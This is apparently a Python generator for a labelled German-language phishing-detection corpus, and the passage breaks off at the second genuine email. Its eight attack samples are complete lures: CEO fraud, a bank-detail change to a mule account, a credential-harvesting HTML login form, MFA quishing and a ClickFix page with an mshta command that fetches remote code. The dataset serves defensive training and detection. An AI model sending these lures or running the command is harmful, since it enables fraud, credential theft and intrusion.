"""German messages: 8 attacks, 8 genuine."""
from kit import *   # noqa: F401,F403

# --- bank data -----------------------------------------------------------
EG_DB = ids.iban_de('86070000', '0123456700')            # Example Group, Deutsche Bank Leipzig
LIEF_OLD = ids.iban_de('86055592', '1100482917')          # Lieferant GmbH, Sparkasse Leipzig
LIEF_NEW = ids.iban_de('86095604', '0307418502')          # Lieferant GmbH, Leipziger Volksbank (genuine change)
MULE_N26 = ids.iban_de('10011001', '2624851937')          # attacker mule, N26
LIBRA = ids.iban_de('82051000', '0163029841')             # Libra Buchvertrieb
REG_PL = ids.iban_pl('1140200', '0000384712650091')       # fake register, Polish account
ELBTAL = ids.iban_de('85050300', '3120074418')            # Druckhaus Elbtal, Ostsächsische Sparkasse Dresden
LIEF_UST = ids.de_ustid('23714826')
EG_UST = ids.de_ustid('81426307')

ISBN_WALE = ids.isbn13('978-3-98215-402-')
ISBN_SALZ = ids.isbn13('978-3-98215-377-')
ISBN_NEBEL = ids.isbn13('978-3-98215-419-')

LIEF_SIG_P = D('''
    Mit freundlichen Grüßen

    Petra Lang
    Debitorenbuchhaltung

    Lieferant GmbH
    Papiergroßhandel & Druckereibedarf
    Torgauer Straße 231 | 04347 Leipzig
    Tel. +49 341 2465-380 | Fax +49 341 2465-399
    p.lang@lieferant-gmbh.de | www.lieferant-gmbh.de
    Geschäftsführer: Dipl.-Kfm. Heiko Lang, Stefan Maier
    Amtsgericht Leipzig HRB 18842 | USt-IdNr. %s
    ''' % LIEF_UST)


def define():
    # =====================================================================
    # ATTACKS
    # =====================================================================
    # 1 CEO fraud, stage 1, look-alike domain on an M365 tenant
    inf = I.M365(domain='examplegroup-eu.com', srv='AM9P195MB1432', srv2='PA4P195MB1280', region='eurp195',
                 ob=('EUR02-AM0-obe.outbound.protection.outlook.com',
                     'mail-am0eur02on2091.outbound.protection.outlook.com', '40.107.247.91'),
                 content_language='de-DE', client_ip='185.213.155.74')
    body = D('''
        Frau Krüger,

        sind Sie heute noch im Haus? Ich brauche kurzfristig Ihre Unterstützung in einer Angelegenheit, die bis auf Weiteres streng vertraulich bleiben muss.

        Wie Sie vielleicht mitbekommen haben, prüfen wir seit dem Sommer Zukäufe im Hörbuchbereich. Wir stehen unmittelbar vor der Unterzeichnung der Übernahme eines kleineren Hörbuchverlags in Wien. Bis zur offiziellen Bekanntgabe am Montag darf außer Herrn Hoffmann und mir niemand im Haus davon wissen – bitte sprechen Sie das Thema daher weder im Team noch über Teams oder Telefon an.

        Die Abwicklung läuft über die Kanzlei Dr. Brenner & Partner in Frankfurt. Herr Dr. Brenner wird sich heute noch per E-Mail bei Ihnen melden und Ihnen die Zahlungsdetails für die Anzahlung aus der Exklusivitätsvereinbarung mitteilen. Die Freigabe habe ich bereits erteilt, bitte folgen Sie seinen Anweisungen.

        Können Sie mir vorab kurz bestätigen, wie hoch der verfügbare Tagessaldo auf unserem Konto bei der Deutschen Bank aktuell ist und ob eine Eilüberweisung heute noch vor 17:30 Uhr möglich ist?

        Ich sitze bis zum Abend in den Verhandlungen und bin telefonisch nicht erreichbar, bitte antworten Sie nur per Mail.

        Vielen Dank für Ihre Diskretion.

        Katharina Vogt
        Vorstandsvorsitzende
        Example Group SE

        Von Outlook für iOS gesendet
        ''')
    add('attack', 'de', 'ceo-vertrauliche-akquisition', inf, T('2026-11-09 15:47:12', 'DE'),
        ('Dr. Katharina Vogt', 'katharina.vogt@examplegroup-eu.com'), [S('sabine.krueger')],
        'Vertraulich: Projekt Hörbuch – kurze Rückmeldung', alt(
            text(body, 'iso-8859-1', 'quoted-printable'),
            text(html_of(body, 'outlook', 'iso-8859-1'), 'iso-8859-1', 'quoted-printable', 'html')),
        hcs='iso-8859-1',
        what='CEO impersonation to accounts payable: confidential acquisition of a Vienna audiobook publisher, announces a lawyer who will send payment details, asks for the day balance',
        why='Look-alike domain examplegroup-eu.com (real: example.com/examplegroup.eu) on a separate Microsoft 365 tenant; secrecy, urgency, "not reachable by phone, reply only by mail", bypasses payment approval, hands over to a "lawyer" - CEO fraud / BEC stage 1',
        check={'technique': 'BEC / CEO fraud from look-alike domain on Microsoft 365 tenant (stage 1, no link, no attachment)'})

    # 2 Supplier bank-detail change from look-alike domain (VPS)
    inf = I.VPS(helo='mail.lieferant-gmbh.com', rdns='vmi2291847.contaboserver.net', ip='194.163.172.58',
                pc='DESKTOP-7QK2M1F', client_ip='185.107.56.213', mimic='outlook', lang='de', zone='DE')
    body = D('''
        Sehr geehrte Damen und Herren,

        im Zuge der Zusammenführung unserer Geschäftskonten wird unsere bisherige Bankverbindung bei der Sparkasse Leipzig zum 20.11.2026 aufgelöst. Bitte veranlassen Sie Zahlungen an die Lieferant GmbH ab sofort ausschließlich auf unser neues Geschäftskonto:

        Kontoinhaber: Lieferant GmbH
        Bank: N26 Bank SE
        IBAN: %s
        BIC: NTSBDEB1XXX

        Die Rechnungen RE-2026-11873 (4.912,40 €) und RE-2026-11902 (7.305,18 €) sind bereits fällig. Wir bitten um Ausgleich bis spätestens Freitag auf das neue Konto, damit es bei der nächsten Papierlieferung für Ihre Druckerei nicht zu Verzögerungen kommt. Das Schreiben unserer Geschäftsführung finden Sie im Anhang.

        Da unsere Telefonanlage in dieser Woche umgestellt wird, sind wir telefonisch nur eingeschränkt erreichbar – bitte bestätigen Sie die Änderung einfach per Antwort auf diese E-Mail.

        ''' % bnk(MULE_N26)) + LIEF_SIG_P.replace('p.lang@lieferant-gmbh.de', 'p.lang@lieferant-gmbh.com')
    letter = pdf_att('Mitteilung_Bankverbindung_Lieferant_GmbH.pdf', [
        ('Lieferant GmbH', 16, True), 'Papiergroßhandel & Druckereibedarf', 'Torgauer Straße 231, 04347 Leipzig', '',
        'An alle Kunden', '', ('Mitteilung über die Änderung unserer Bankverbindung', 12, True), '',
        'Sehr geehrte Damen und Herren,', '',
        'hiermit teilen wir Ihnen mit, dass sich unsere Bankverbindung mit sofortiger Wirkung ändert.',
        'Bitte leisten Sie alle Zahlungen, auch für bereits offene Rechnungen, nur noch auf folgendes Konto:', '',
        'Kontoinhaber: Lieferant GmbH', 'Kreditinstitut: N26 Bank SE', 'IBAN: ' + bnk(MULE_N26), 'BIC: NTSBDEB1XXX', '',
        'Zahlungen auf die bisherige Verbindung können ab dem 20.11.2026 nicht mehr zugeordnet werden.', '',
        'Leipzig, 16.11.2026', '', 'Heiko Lang', 'Geschäftsführer', '',
        'Amtsgericht Leipzig HRB 18842 - USt-IdNr. ' + LIEF_UST],
        title='Mitteilung Bankverbindung', author='Lieferant GmbH', creator='Microsoft Word',
        producer='Microsoft: Print To PDF', created="D:20261116181204+01'00'")
    add('attack', 'de', 'lieferant-neue-bankverbindung', inf, T('2026-11-17 10:12:40', 'DE'),
        ('Petra Lang | Lieferant GmbH', 'p.lang@lieferant-gmbh.com'),
        [('Rechnungseingang Example Group', 'rechnungen@example.com')],
        'Lieferant GmbH – Änderung unserer Bankverbindung / offene Posten',
        mixed(alt(text(body, 'windows-1252', 'quoted-printable'),
                  text(html_of(body, 'outlook', 'windows-1252'), 'windows-1252', 'quoted-printable', 'html')),
              letter),
        cc=[S('sabine.krueger')], hcs='windows-1252',
        what='"Lieferant GmbH" announces immediate change of bank account to an N26 account and asks to pay two due invoices there; PDF letter',
        why='Sender domain lieferant-gmbh.com is a look-alike of the real supplier lieferant-gmbh.de, mail sent from a Contabo VPS, not the supplier\'s IONOS mail; new account at a neobank, pressure to pay already due invoices, asks to confirm by mail only because "phones are being changed" - supplier impersonation / invoice-redirection BEC',
        check={'technique': 'Supplier bank-detail change from look-alike domain (VPS), PDF letter with mule IBAN',
               'ibans': [MULE_N26]})

    # 3 Compromised bookshop mailbox, fake share notification -> Adobe InDesign-hosted lure
    inf = I.M365(domain='buchhandlung-am-markt.de', srv='DB8PR09MB3627', srv2='AS2PR09MB6294', region='eurprd09',
                 ob=('EUR03-DBA-obe.outbound.protection.outlook.com',
                     'mail-dbaeur03on2104.outbound.protection.outlook.com', '40.107.104.104'),
                 content_language='de-DE', client_ip='102.129.152.27')
    url = 'https://indd.adobe.com/view/6f1c2e8a-4b7d-4f3e-9a20-c5d81e7b9f42'
    plain = D('''
        Martina Kessler hat eine Datei für Sie freigegeben.

        Remissionen_Q4_2026_Example_Group.pdf

        Hallo, anbei wie besprochen unsere Remissionsliste für das 4. Quartal mit den Gutschriftsbeträgen. Bitte prüfen und bis Freitag bestätigen.

        Öffnen: %s

        Dieser Link funktioniert nur für die direkten Empfänger dieser Nachricht.

        Martina Kessler
        Buchhandlung am Markt
        Markt 9, 37073 Göttingen
        ''' % url)
    html = D('''
        <html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
        <body style="margin:0;padding:0;background:#f3f2f1">
        <table width="100%%" cellpadding="0" cellspacing="0" style="font-family:'Segoe UI',Arial,sans-serif;background:#f3f2f1"><tr><td align="center" style="padding:24px">
        <table width="520" cellpadding="0" cellspacing="0" style="background:#ffffff;border:1px solid #e1dfdd">
        <tr><td style="padding:24px 32px 8px 32px;font-size:20px;color:#323130">Martina Kessler hat eine Datei für Sie freigegeben</td></tr>
        <tr><td style="padding:8px 32px;font-size:14px;color:#605e5c">Hallo, anbei wie besprochen unsere Remissionsliste für das 4. Quartal mit den Gutschriftsbeträgen. Bitte prüfen und bis Freitag bestätigen.</td></tr>
        <tr><td style="padding:16px 32px"><table cellpadding="0" cellspacing="0" style="border:1px solid #edebe9;width:100%%"><tr>
        <td style="padding:12px;width:40px"><div style="width:32px;height:40px;background:#d13438;color:#fff;font-size:11px;text-align:center;line-height:40px">PDF</div></td>
        <td style="padding:12px;font-size:14px;color:#323130">Remissionen_Q4_2026_Example_Group.pdf</td></tr></table></td></tr>
        <tr><td style="padding:8px 32px 24px 32px"><a href="%s" style="background:#0f6cbd;color:#ffffff;padding:10px 22px;text-decoration:none;font-size:14px;display:inline-block">Öffnen</a></td></tr>
        <tr><td style="padding:0 32px 24px 32px;font-size:12px;color:#a19f9d">Dieser Link funktioniert nur für die direkten Empfänger dieser Nachricht.</td></tr>
        </table></td></tr></table>
        <p style="font-family:Arial;font-size:12px;color:#605e5c">Martina Kessler<br>Buchhandlung am Markt<br>Markt 9, 37073 Göttingen</p>
        </body></html>
        ''' % url)
    add('attack', 'de', 'buchhandlung-kompromittiert-freigabe', inf, T('2026-11-25 07:58:03', 'DE'),
        ('Martina Kessler', 'm.kessler@buchhandlung-am-markt.de'), [],
        'Martina Kessler hat „Remissionen_Q4_2026_Example_Group.pdf“ für Sie freigegeben',
        alt(text(plain, 'utf-8', 'quoted-printable'), text(html, 'utf-8', 'quoted-printable', 'html')),
        to_raw='Martina Kessler <m.kessler@buchhandlung-am-markt.de>', rcpt='felix.baumgaertner@example.com',
        what='Looks like a SharePoint/OneDrive sharing notice from a known bookshop customer: "Remissionsliste Q4" with an "Öffnen" button',
        why='Sent from the bookshop\'s real Microsoft 365 tenant but by an intruder (sign-in from a foreign hosting IP, message addressed to the sender herself with all victims in Bcc); the notification is hand-made HTML, not from SharePoint; the button leads to an Adobe InDesign-published page (abused genuine service) that forwards to an adversary-in-the-middle Microsoft login - compromised-partner credential phishing',
        check={'technique': 'Compromised customer mailbox (real M365), fake SharePoint share, link to abused Adobe InDesign hosting -> AitM phishing'})

    # 4 VG Wort themed bank-data phishing via Brevo
    inf = I.Brevo(node=31, client_id=6184023, bounce_dom='sender-sib.com')
    track = 'https://7q2k1.r.bh.d.sendibt3.com/tr/cl/Wm8vXb2kR4cN1sLq9TfY0pA7eHjD3uG6iKoPzS5xV8wQ'
    plain = D('''
        VG WORT – Hauptausschüttung 2026

        Sehr geehrte Bezugsberechtigte, sehr geehrte Damen und Herren,

        die Hauptausschüttung 2026 für den Verlagsanteil (Meldejahr 2025) wird Anfang Dezember ausgezahlt. Mit Einführung der Empfängerüberprüfung (Verification of Payee) nach Verordnung (EU) 2024/886 ist es erforderlich, dass alle Bezugsberechtigten ihre im Portal T.O.M. hinterlegte Bankverbindung einmalig bestätigen.

        Bitte bestätigen Sie Ihre Bankverbindung bis zum 27.11.2026:
        T.O.M. Anmeldung: %s

        Ohne Bestätigung kann die Ausschüttung nicht ausgeführt werden und wird auf die nächste Ausschüttungsperiode zurückgestellt.

        Mit freundlichen Grüßen
        Ihre VG WORT
        Abteilung Verlage

        Verwertungsgesellschaft WORT, rechtsfähiger Verein kraft staatlicher Verleihung
        ''' % track)
    html = D('''
        <!DOCTYPE html><html lang="de"><head><meta charset="utf-8"><title>VG WORT</title></head>
        <body style="margin:0;background:#eeeeee;font-family:Arial,Helvetica,sans-serif">
        <div style="max-width:600px;margin:0 auto;background:#ffffff">
        <div style="background:#a5142b;color:#fff;padding:18px 24px;font-size:22px;font-weight:bold;letter-spacing:1px">VG WORT</div>
        <div style="padding:24px;font-size:14px;line-height:1.5;color:#222">
        <p style="font-size:18px;font-weight:bold">Hauptausschüttung 2026</p>
        <p>Sehr geehrte Bezugsberechtigte, sehr geehrte Damen und Herren,</p>
        <p>die Hauptausschüttung 2026 für den Verlagsanteil (Meldejahr 2025) wird Anfang Dezember ausgezahlt. Mit Einführung der Empfängerüberprüfung (<i>Verification of Payee</i>) nach Verordnung (EU) 2024/886 ist es erforderlich, dass alle Bezugsberechtigten ihre im Portal T.O.M. hinterlegte Bankverbindung einmalig bestätigen.</p>
        <p><b>Bitte bestätigen Sie Ihre Bankverbindung bis zum 27.11.2026.</b></p>
        <p style="text-align:center;margin:28px 0"><a href="%s" style="background:#a5142b;color:#fff;padding:12px 28px;text-decoration:none;font-weight:bold">Zur T.O.M.-Anmeldung</a></p>
        <p>Ohne Bestätigung kann die Ausschüttung nicht ausgeführt werden und wird auf die nächste Ausschüttungsperiode zurückgestellt.</p>
        <p>Mit freundlichen Grüßen<br>Ihre VG WORT<br>Abteilung Verlage</p>
        </div>
        <div style="padding:16px 24px;font-size:11px;color:#777;border-top:1px solid #ddd">Verwertungsgesellschaft WORT, rechtsfähiger Verein kraft staatlicher Verleihung, Untere Weidenstraße 5, 81543 München<br>
        <a href="https://7q2k1.r.bh.d.sendibt3.com/tr/un/Wm8vXb2kR4cN1sLq9TfY0pA7eHjD3uG6iKoPzS5xV8wQ" style="color:#777">Abmelden</a></div>
        </div><img width="1" height="1" src="https://7q2k1.r.bh.d.sendibt3.com/tr/op/Wm8vXb2kR4cN1sLq9TfY0pA7eHjD3uG6iKoPzS5xV8wQ" alt=""></body></html>
        ''' % track)
    add('attack', 'de', 'vgwort-bankverbindung-bestaetigen', inf, T('2026-11-19 09:30:11', 'DE'),
        ('VG WORT', 'service@vgwort-portal.de'), [S('claudia.neumann')],
        'Hauptausschüttung 2026: Bestätigung Ihrer Bankverbindung bis 27.11. erforderlich',
        alt(text(plain, 'utf-8', 'quoted-printable'), text(html, 'utf-8', 'quoted-printable', 'html')),
        extra=[('List-Unsubscribe', '<https://7q2k1.r.bh.d.sendibt3.com/tr/un/Wm8vXb2kR4cN1sLq9TfY0pA7eHjD3uG6iKoPzS5xV8wQ>, <mailto:unsubscribe@sender-sib.com>'),
               ('List-Unsubscribe-Post', 'List-Unsubscribe=One-Click')],
        what='"VG WORT" asks rights & licensing to confirm the bank account for the 2026 distribution in the T.O.M. portal before a deadline',
        why='VG Wort is real (vgwort.de, portal tom.vgwort.de) but the sender is the look-alike vgwort-portal.de sending through a Brevo account; tracked link to an off-domain login; invented regulatory reason (Verification of Payee) and withheld-payment threat - trade-specific credential/bank-data phishing',
        check={'technique': 'Trade-specific portal phishing (collecting society VG Wort), look-alike domain via bulk ESP Brevo'})

    # 5 Fake register "invoice" (offer disguised as invoice)
    inf = I.VPS(helo='mail.dhr-zentrale.de', rdns='static.138.201.88.214.clients.your-server.de', ip='138.201.88.214',
                pc='localhost', client_ip='127.0.0.1', mimic='none', zone='DE')
    body = D('''
        Sehr geehrte Damen und Herren,

        bezugnehmend auf die Registerbekanntmachung vom 02.12.2026 (Amtsgericht Leipzig, HRB 31847 – Example Group SE, Eintragung Prokura) übersenden wir Ihnen anbei die Unterlagen zur Eintragung Ihres Unternehmens in das Deutsche Handels- und Gewerberegister-Verzeichnis.

        Bitte begleichen Sie den Betrag von 794,86 EUR innerhalb von 7 Tagen unter Angabe der Registernummer DHR-2026-448213.

        Mit freundlichen Grüßen
        DHRZ Deutsches Handels- und Gewerberegister Zentrale
        Registerverwaltung
        ''')
    offer = pdf_att('Eintragung_DHR-2026-448213.pdf', [
        ('DHRZ', 18, True), 'Deutsches Handels- und Gewerberegister Zentrale', 'Postfach 10 14 41 - 10104 Berlin', '',
        'Example Group SE', 'Gerberstraße 14', '04105 Leipzig', '',
        ('Eintragung / Registernummer DHR-2026-448213', 12, True), 'Datum: 04.12.2026', '',
        'Registergericht: Amtsgericht Leipzig    HRB 31847', 'Bekanntmachung vom: 02.12.2026 (Prokura)', '',
        'Position                                        Betrag', 'Eintragung Register-Verzeichnis 2027    667,95 EUR',
        'MwSt. 19 %                                      126,91 EUR', ('Zu zahlen                                       794,86 EUR', 10, True), '',
        'Zahlbar innerhalb 7 Tagen ohne Abzug auf:', 'Empfänger: DHRZ Register Services',
        'IBAN: ' + bnk(REG_PL), 'BIC: BREXPLPWMBK', 'Verwendungszweck: DHR-2026-448213', '',
        ('Hinweise: Dieses Schreiben ist ein Angebot zur Aufnahme in das private Verzeichnis der DHRZ.', 7, False),
        ('Mit Zahlung des Betrages kommt ein Vertrag über drei Jahre zustande (jährlich 794,86 EUR).', 7, False),
        ('Es besteht keine Verbindung zum amtlichen Handelsregister oder zum Unternehmensregister.', 7, False)],
        title='Eintragung', author='DHRZ', creator='wkhtmltopdf 0.12.6', producer='Qt 5.15.2',
        created="D:20261204061500+01'00'", style='tb')
    add('attack', 'de', 'handelsregister-eintragungsofferte', inf, T('2026-12-04 06:15:44', 'DE'),
        ('DHRZ Register', 'rechnung@dhr-zentrale.de'), [('', 'info@example.com')],
        'Eintragung Example Group SE – HRB 31847 – Registernummer DHR-2026-448213',
        mixed(text(body, 'iso-8859-15', '8bit'), offer), hcs='iso-8859-15',
        what='"Register" invoice for 794.86 EUR referring to a genuine Handelsregister publication (new Prokura), PDF with Polish IBAN',
        why='Private look-alike "register" with no official function; the PDF is an offer disguised as an invoice (fine print: three-year contract), payment to a foreign account, mass-mailed from a Hetzner VPS after scraping register publications - fake directory/register invoice fraud',
        check={'technique': 'Fake register/directory invoice (offer disguised as invoice), PDF with foreign IBAN',
               'ibans': [REG_PL]})

    # 6 Quishing: MFA renewal with inline QR code, compromised tax-office account
    qurl = 'https://mfa-renew.example-group365.com/?u=bW9uaWthLndlaXNzQGV4YW1wbGUuY29t&t=ZTE2NDk'
    inf = I.EximCpanel(helo='srv14.webhoster-ag.de', rdns='srv14.webhoster-ag.de', ip='185.232.71.44',
                       client_ip='45.137.21.9', zone='DE', mailer=None)
    plain = D('''
        Microsoft 365 – Sicherheitsinformationen

        Hallo Monika Weiß,

        Ihre Multi-Faktor-Authentifizierung (MFA) für monika.weiss@example.com läuft am 30.11.2026 ab. Um eine Unterbrechung Ihres Zugriffs auf Outlook, Teams und SharePoint zu vermeiden, erneuern Sie die Registrierung bitte mit der Kamera Ihres Smartphones über den QR-Code in dieser Nachricht.

        Der Vorgang dauert weniger als zwei Minuten.

        IT-Service Example Group
        ''')
    html = D('''
        <html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"></head>
        <body style="font-family:Segoe UI,Arial,sans-serif;color:#1b1b1b">
        <table width="560" cellpadding="0" cellspacing="0" style="border:1px solid #dadada"><tr><td style="padding:22px 28px">
        <div style="font-size:15px;color:#737373">Microsoft 365</div>
        <div style="font-size:22px;margin:10px 0 18px 0">Sicherheitsinformationen erneuern</div>
        <p style="font-size:14px">Hallo Monika Wei&szlig;,</p>
        <p style="font-size:14px">Ihre Multi-Faktor-Authentifizierung (MFA) f&uuml;r <b>monika.weiss@example.com</b> l&auml;uft am <b>30.11.2026</b> ab. Um eine Unterbrechung Ihres Zugriffs auf Outlook, Teams und SharePoint zu vermeiden, scannen Sie bitte den folgenden QR-Code mit der Kamera Ihres Smartphones.</p>
        <p style="text-align:center"><img src="cid:qr-mfa-7731@example-group365.com" width="185" height="185" alt="QR"></p>
        <p style="font-size:13px;color:#737373">Der Vorgang dauert weniger als zwei Minuten.</p>
        <p style="font-size:14px">IT-Service Example Group</p>
        </td></tr></table></body></html>
        ''')
    add('attack', 'de', 'mfa-erneuerung-qr-code', inf, T('2026-11-23 08:41:19', 'DE'),
        ('IT-Service Example Group', 'kanzlei@steuerbuero-hahn-dessau.de'), [S('monika.weiss')],
        'Aktion erforderlich: Ihre Multi-Faktor-Authentifizierung läuft am 30.11.2026 ab',
        related(alt(text(plain, 'iso-8859-1', 'quoted-printable'),
                    text(html, 'iso-8859-1', 'quoted-printable', 'html')),
                png_att('qr.png', qr_png(qurl, 'M'), cid='qr-mfa-7731@example-group365.com', inline=True)),
        hcs='iso-8859-1',
        what='"IT-Service" says the MFA registration expires and must be renewed by scanning an inline QR code with the phone',
        why='QR code (quishing) decodes to ' + qurl + ' (look-alike domain, victim address base64-encoded) - moves the click to an unmanaged phone outside URL filtering; sent with stolen SMTP credentials of an unrelated tax adviser in Dessau via shared hosting; the company\'s real MFA rollout (see business/06) explicitly never uses QR codes by mail',
        check={'technique': 'Quishing: inline PNG QR code, MFA-expiry pretext, compromised third-party SMTP account', 'qr': qurl})

    # 7 HTML attachment credential phishing posing as payment advice
    inf = I.Strato(pc='WIN-3LJ8B4T0QKD ([5.181.234.19])')
    body = D('''
        Sehr geehrte Damen und Herren,

        anbei erhalten Sie das Zahlungsavis zu unserer heutigen Überweisung (Zahlungslauf 26.11.2026, 14 Rechnungen).

        Bitte öffnen Sie das Dokument im Browser; zum Schutz der Zahlungsdaten ist eine Anmeldung mit Ihrem Geschäftskonto erforderlich.

        Mit freundlichen Grüßen

        Zahlungsverkehr
        Libra Buchvertrieb GmbH
        ''')
    page = D('''
        <!DOCTYPE html>
        <html lang="de"><head><meta charset="utf-8"><title>Zahlungsavis 0004471283 - Dokumentvorschau</title>
        <style>body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f2f2f2}
        .blur{position:fixed;inset:0;background:#e9e9e9 repeating-linear-gradient(0deg,#ddd 0 14px,#eee 14px 28px);filter:blur(3px)}
        .box{position:relative;width:440px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
        input{width:100%;padding:6px 0;border:0;border-bottom:1px solid #666;font-size:15px;margin:14px 0}
        button{background:#0067b8;color:#fff;border:0;padding:8px 32px;font-size:15px;float:right}</style></head>
        <body><div class="blur"></div><div class="box">
        <div style="font-size:13px;color:#5e5e5e">Microsoft</div>
        <h2 style="font-weight:600">Anmelden, um das Dokument anzuzeigen</h2>
        <p style="font-size:13px">Zahlungsavis_0004471283.pdf (212 KB) wurde für <b>debitoren@example.com</b> freigegeben.</p>
        <form method="post" action="https://avis-dokumente.com/de/auth/submit.php">
        <input type="hidden" name="ref" value="0004471283">
        <input type="email" name="login" value="debitoren@example.com">
        <input type="password" name="passwd" placeholder="Kennwort" required>
        <button type="submit">Anmelden</button></form>
        <p style="font-size:12px;color:#666;clear:both;padding-top:18px">Geschützt durch Microsoft Purview Informationsschutz</p>
        </div></body></html>
        ''')
    add('attack', 'de', 'zahlungsavis-html-anmeldung', inf, T('2026-11-26 14:22:51', 'DE'),
        ('Libra Buchvertrieb - Zahlungsverkehr', 'info@metallbau-kuehn.de'), [('Debitorenbuchhaltung', 'debitoren@example.com')],
        'Zahlungsavis 0004471283 – Libra Buchvertrieb GmbH',
        mixed(alt(text(body, 'iso-8859-1', 'quoted-printable'),
                  text(html_of(body, 'outlook', 'iso-8859-1'), 'iso-8859-1', 'quoted-printable', 'html')),
              html_att('Zahlungsavis_0004471283.html', page)),
        hcs='iso-8859-1',
        what='"Payment advice" from the wholesaler Libra Buchvertrieb with an HTML attachment that asks to sign in to view it',
        why='Display name of a real customer but address of an unrelated metalworking company (compromised Strato account used from a foreign IP); the .html attachment is a local fake Microsoft login that posts the password to avis-dokumente.com; genuine Libra advices come as PDF from libra-buchvertrieb.de (business/05) - HTML-attachment credential phishing',
        check={'technique': 'HTML attachment with local credential form (no script), display-name spoof via compromised SME account'})

    # 8 ClickFix after the book fair, SendGrid
    inf = I.SendGrid(node='wrqvbrst', ip='149.72.154.231', uid=38412977, bounce_dom='em4127.buchmesse-aussteller.de')
    link = 'https://u38412977.ct.sendgrid.net/ls/click?upn=u001.Hk2mJ0fQ8bZc-2FvT1pW9xLr4YsAa7Nd3EeG5hKq6ViU'
    body = D('''
        Sehr geehrte Aussteller,

        vielen Dank für Ihre Teilnahme an der Frankfurter Buchmesse 2026. Bei der Schlussabrechnung Ihres Gemeinschaftsstandes (Halle 3.1, Stand A 44) wurden zusätzliche Ausstellerausweise und Leistungen des Standbauservice nachberechnet.

        Die Standabrechnung Nr. FBM26-A-04418 steht ab sofort zum Abruf bereit. Sie finden die Abrechnung außerdem im Anhang dieser E-Mail; aus Sicherheitsgründen ist beim ersten Öffnen eine kurze Verifizierung erforderlich.

        Abrechnung abrufen: %s

        Einspruchsfrist: 14 Tage ab Rechnungsdatum.

        Mit freundlichen Grüßen
        Ausstellerservice
        ''' % link)
    cmd = 'mshta https://fbm-verify.buchmesse-aussteller.de/c/A-04418 # Ich bin kein Roboter - Cloudflare Verifizierungs-ID: 7719'
    page = D('''
        <!DOCTYPE html>
        <html lang="de"><head><meta charset="utf-8"><title>Standabrechnung FBM26-A-04418</title>
        <style>body{font-family:Arial,sans-serif;background:#f7f7f7;color:#222}
        .c{width:620px;margin:60px auto;background:#fff;border:1px solid #d9d9d9;padding:30px}
        .cmd{font-family:Consolas,monospace;background:#f1f1f1;border:1px solid #ccc;padding:10px;font-size:13px;word-break:break-all}
        .s{display:flex;align-items:center;gap:10px;border:1px solid #e0e0e0;padding:14px;margin:20px 0}</style></head>
        <body><div class="c">
        <div class="s"><span style="display:inline-block;width:22px;height:22px;border:2px solid #999"></span> Bestätigen Sie, dass Sie ein Mensch sind <span style="margin-left:auto;font-size:11px;color:#888">Cloudflare<br>Datenschutz - Bedingungen</span></div>
        <p><b>Verifizierungsschritte</b></p>
        <ol><li>Drücken Sie die Windows-Taste <b>&#8862; + R</b></li>
        <li>Fügen Sie den folgenden Prüfcode mit <b>Strg + V</b> ein (zuvor markieren und kopieren)</li>
        <li>Drücken Sie <b>Enter</b>, um die Verifizierung abzuschließen</li></ol>
        <div class="cmd">%s</div>
        <p style="font-size:12px;color:#777">Nach erfolgreicher Verifizierung wird die Standabrechnung FBM26-A-04418 automatisch angezeigt.</p>
        </div></body></html>
        ''' % cmd)
    add('attack', 'de', 'buchmesse-standabrechnung-clickfix', inf, T('2026-10-27 11:05:37', 'DE'),
        ('Frankfurter Buchmesse | Ausstellerservice', 'ausstellerservice@buchmesse-aussteller.de'),
        [S('felix.baumgaertner')],
        'Ihre Standabrechnung Frankfurter Buchmesse 2026 – Nachbelastung Ausstellerausweise',
        mixed(text(body, 'utf-8', 'quoted-printable'), html_att('FBM26_Standabrechnung_A-04418.html', page, style='tb')),
        what='Post-fair "stand invoice" for additional exhibitor passes, link plus HTML attachment with a fake "I am human" check',
        why='Look-alike domain buchmesse-aussteller.de (real fair: buchmesse.de) via a SendGrid account; the HTML attachment instructs the user to press Win+R and paste an mshta command that loads a remote HTA (ClickFix), disguised with a "Cloudflare verification" comment',
        check={'technique': 'ClickFix (fake CAPTCHA, Win+R + mshta) in HTML attachment, look-alike trade-fair domain via SendGrid'})

    # =====================================================================
    # GENUINE
    # =====================================================================
    # 1 CEO's genuine urgent payment request (internal relay)
    inf = I.ExchangeInternal(client_ip='10.20.40.31')
    body = D('''
        Hallo Jürgen,

        das Druckhaus Elbtal braucht die vereinbarte Anzahlung für den Weihnachtsnachdruck von „Die Salzstraße“ (ISBN %s, 6.000 Ex.) bis morgen 12 Uhr, sonst verlieren wir den Maschinenplatz in KW 49 und die Ware ist nicht mehr rechtzeitig im Handel.

        Die Bestellung 4500012873 hat Markus im SAP angelegt, die Anzahlungsrechnung AR-26-0977 (30 %%, 18.450,00 € netto / 21.955,50 € brutto) liegt seit gestern im DMS im Freigabe-Workflow. Bankverbindung ist die bekannte aus dem Kreditorenstamm (Kreditor 700418), keine Änderung.

        Kannst Du das bitte heute noch im Vier-Augen-Prinzip mit Sabine freigeben? Wenn etwas unklar ist, ruf mich gerne an – ich bin bis 15 Uhr im Haus, danach mobil.

        Danke und viele Grüße
        Katharina

        Dr. Katharina Vogt
        Vorstandsvorsitzende
        Example Group SE | Gerberstraße 14 | 04105 Leipzig
        Tel. +49 341 99012-100
        ''' % ISBN_SALZ)
    add('business', 'de', 'ceo-dringende-anzahlung-druckerei', inf, T('2026-11-18 11:24:05', 'DE'),
        ('Katharina Vogt', 'katharina.vogt@example.com'), [S('juergen.hoffmann')],
        'Dringend: Anzahlung Druckhaus Elbtal – Nachdruck „Die Salzstraße“',
        alt(text(body, 'windows-1252', 'quoted-printable'),
            text(html_of(body, 'outlook', 'windows-1252'), 'windows-1252', 'quoted-printable', 'html')),
        cc=[S('sabine.krueger'), S('markus.wendt')], hcs='windows-1252',
        what='CEO asks the CFO to release an urgent 30 % advance to the book printer today so the reprint keeps its press slot',
        why='Internal mail: Outlook -> EXCH01 -> mail-int01 -> mx01 from the real mailbox; refers to an existing PO in SAP, the invoice in the DMS workflow and the unchanged vendor master data, asks for four-eyes approval and invites a phone call',
        pair=('ceo-vertrauliche-akquisition', 'Same urgency from the CEO, but internal Exchange route, real domain, existing PO/vendor master, normal approval, phone welcome'))

    # 2 Genuine supplier bank change, properly announced
    inf = I.Ionos(client='outlook', client_ip='84.191.204.37')
    body = D('''
